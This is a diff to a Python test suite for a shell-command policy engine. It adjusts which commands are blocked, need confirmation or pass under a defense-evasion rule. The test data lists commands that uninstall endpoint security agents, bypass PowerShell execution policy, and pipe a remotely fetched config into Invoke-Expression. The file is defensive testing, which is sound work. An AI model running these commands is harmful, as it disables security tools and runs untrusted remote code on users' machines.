@@ -230,7 +230,6 @@ def test_personal_export_near_misses(command: str) -> None:
     "Remove-Item -Recurse -Force 'C:\\Program Files\\SentinelOne'",
     "sudo apt-get purge -y falcon-sensor",
     "sudo dnf remove -y sentinelagent",
-    "brew uninstall --cask malwarebytes",
     "winget uninstall 'Sophos Endpoint Agent'",
     "sudo mdatp uninstall",
     "sudo /opt/sophos-spl/bin/uninstall.sh",
@@ -239,6 +238,11 @@ def test_personal_export_near_misses(command: str) -> None:
 ])
 def test_security_agents_removed_block(command: str) -> None:
     blocked(command, "block.shell.defense-evasion")
+
+
+def test_a_security_tool_uninstalled_through_homebrew_asks() -> None:
+    a = shell("brew uninstall --cask malwarebytes")
+    assert a.decision.value == "confirm" and "confirm.shell.defense-evasion" in a.rules
 
 
 def test_a_security_agents_install_record_erased_alone_asks() -> None:
@@ -277,7 +281,6 @@ def test_security_agent_near_misses(command: str) -> None:
     "ffuf -w words.txt -u http://127.0.0.1:3000/FUZZ",
     "nikto -h http://localhost:8000",
     "john --list=formats | head",
-    "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process -Force",
     "oh-my-posh init pwsh --config ~/themes/night.omp.json | Invoke-Expression",
     'eval "$(oh-my-posh init zsh --config ~/.poshthemes/atomic.omp.json)"',
     'eval "$(atuin init zsh)"',
@@ -296,6 +299,7 @@ def test_everyday_uses_pass(command: str) -> None:
     "gobuster dir -u http://localhost.attacker.example -w w.txt",
     "Set-ExecutionPolicy Unrestricted -Scope LocalMachine -Force",
     "Set-ExecutionPolicy Bypass -Scope Process; .\\setup.ps1",
+    "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process -Force",
     "oh-my-posh init pwsh --config https://203.0.113.9/t.omp.json | Invoke-Expression",
 ])
 def test_everyday_near_misses_still_ask(command: str) -> None:
